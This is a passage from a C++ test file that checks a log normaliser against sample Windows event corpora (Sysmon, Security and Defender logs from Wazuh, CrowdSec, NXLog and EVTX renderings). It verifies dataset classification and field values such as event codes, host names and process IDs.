    for (const auto& line : corpus::Lines(corpus::Path("sysmon/windows-sysmon-nxlog-json/otrf-schtask_create_2020-12-1907003032.json"))) {
      Event ev = corpus::Parse(line);
      // The input's own NXLog fields are the reference for what we normalise (never our parse).
      simdjson::dom::object in;
      ASSERT_FALSE(json.parse(line).get(in)) << line;
      std::string_view channel, image;
      int64_t event_id = -1;
      EXPECT_FALSE(in["Channel"].get(channel)) << line;
      EXPECT_FALSE(in["EventID"].get(event_id)) << line;
      const bool has_image = !in["Image"].get(image);
      if (EqualsIgnoreCase(std::string(channel), "Microsoft-Windows-Sysmon/Operational")) f.Classify(ev, "sysmon.");
      else if (EqualsIgnoreCase(std::string(channel), "Security")) f.Classify(ev, "auth.windows_security");
      else {  // TaskScheduler and the like: not one of ours, and must not pass for one
        ++others;
        const std::string ds = corpus::Field(ev, "event.dataset");
        EXPECT_TRUE(ds.rfind("sysmon.", 0) != 0 && ds != "auth.windows_security") << ds << " for " << channel;
        continue;
      }
      f.Expect(ev, "event.code", std::to_string(event_id));
      if (has_image && event_id == 1) f.Expect(ev, "process.executable", std::string(image));
    }
    std::printf("nxlog-json: %d line(s) of other channels\n", others);
    formats.push_back(f);
  }

  // --- Wazuh agent eventchannel JSON (ini rule tests): every "log N pass/fail = " payload
  // that is a Sysmon event (JSON, or the legacy WinEvtLog text form).
  {
    corpus::CorpusFormat f = Format("sysmon/windows-sysmon-wazuh-eventchannel-json");
    f.ClassificationOnly("Wazuh rule tests give the rule the payload must fire, no field values");
    const std::string dir = corpus::Path("sysmon/windows-sysmon-wazuh-eventchannel-json");
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
      if (entry.path().extension() != ".ini") continue;
      for (const auto& line : corpus::Lines(entry.path().string())) {
        if (line.rfind("log ", 0) != 0) continue;
        size_t eq = line.find(" = ");
        if (eq == std::string::npos) continue;
        const std::string payload = line.substr(eq + 3);
        if (payload.find("Sysmon") == std::string::npos) continue;  // e.g. the Application sample
        Event ev = corpus::Parse(payload);
        f.Classify(ev, "sysmon.");
      }
    }
    f.Differs("WinEvtLog text", "the legacy flattened 'WinEvtLog:' agent text form is not parsed (2 samples)");
    formats.push_back(f);
  }

  // --- Security XML: Wazuh engine tests (expected ECS), CrowdSec (asserts), EVTX renderings.
  {
    corpus::CorpusFormat f = Format("auth/windows-security-xml");
    const std::string dir = corpus::Path("auth/windows-security-xml");
    for (const auto& entry : std::filesystem::recursive_directory_iterator(dir)) {
      const std::string p = entry.path().string();
      if (entry.path().extension() != ".xml") continue;
      std::vector<Expected> expected;
      if (p.size() > 10 && p.substr(p.size() - 10) == "_input.xml") expected = ReadExpected(p.substr(0, p.size() - 10) + "_expected.json");
      const auto records = corpus::SplitEvents(corpus::ReadAll(p));
      for (size_t k = 0; k < records.size(); ++k) {
        Event ev = corpus::Parse(records[k]);
        f.Classify(ev, "auth.windows_security");
        if (k >= expected.size()) continue;
        const Expected& x = expected[k];
        for (const char* name : {"event.code", "event.provider", "event.action", "event.outcome", "event.category",
                                 "host.name", "user.name", "user.domain", "user.id", "source.ip", "source.port",
                                 "source.domain", "user.target.name",
                                 "group.name", "group.domain", "group.id", "destination.ip", "destination.port",
                                 "network.transport"}) {
          ExpectField(&f, ev, x, name);
        }
        const std::string code = x.One("event.code");
        if (x.One("process.executable") != "-") {
          ExpectField(&f, ev, x, "process.executable");
          ExpectField(&f, ev, x, "process.name");
        }
        if (code != "4688" && code.rfind("515", 0) != 0) ExpectField(&f, ev, x, "process.pid");
        f.Differs("process.pid (4688)", "Wazuh maps the creator's ProcessId to both pids; we use NewProcessId (0x2bc = 700)");
        f.Differs("process.pid (5152-5158)", "the filtering platform writes decimal pids (4556); Wazuh reads them as hex (17750)");
        f.Differs("process.executable '-'", "Windows' '-' placeholder is not set as a value");
      }
    }
    // CrowdSec: one Event Viewer copy ("- <Event ...>- <System>") per line; s00-raw asserts.
    for (const auto& line : corpus::Lines(corpus::Path("auth/windows-security-xml/crowdsec-windows-logs.log"))) {
      Event ev = corpus::Parse(line);
      f.Classify(ev, "auth.windows_security");
      f.Expect(ev, "winlog.channel", "Security");
      f.Expect(ev, "host.name", "exchange-1.mydomain.test");
      f.Expect(ev, "event.code", "4625");
      f.Expect(ev, "event.provider", "Microsoft-Windows-Security-Auditing");
      f.Expect(ev, "@timestamp", FormatRfc3339(T("2022-04-28T16:09:28.9443547Z")));
    }
    formats.push_back(f);
  }

  // --- Defender XML (EVTX rendering; no peer output): classification and what must be there.
  {
    corpus::CorpusFormat f = Format("av/windows-defender-evtx-xml");
    f.ClassificationOnly("EVTX renderings without a peer's decoding; the fields are checked by the EXPECTs below");
    const std::string p = corpus::Path("av/windows-defender-evtx-xml/evtx-attack-samples-WinDefender_Events_1117_1116_AtomicRedTeam.xml");
    for (const auto& rec : corpus::SplitEvents(corpus::ReadAll(p))) {
      Event ev = corpus::Parse(rec);
      f.Classify(ev, "antivirus.windows_defender");
      EXPECT_NE(F(ev, "rule.name"), "<absent>") << rec.substr(0, 200);
      EXPECT_EQ(F(ev, "event.category"), "malware");
      EXPECT_EQ(F(ev, "host.name"), "MSEDGEWIN10");
      const std::string path = F(ev, "file.path");
      EXPECT_TRUE(path.rfind("C:\\", 0) == 0 || path.rfind("\\\\", 0) == 0 || path == "<absent>") << path;
    }
    formats.push_back(f);
  }

  if (std::getenv("KMT_CORPUS_VERBOSE")) {  // the first disagreements even when above threshold
    for (const auto& f : formats) {
      for (const auto& d : f.disagreements) std::printf("%s: %s\n", f.name.c_str(), d.c_str());
    }
  }
  corpus::Report(formats);
}

}  // namespace
}  // namespace kamatama
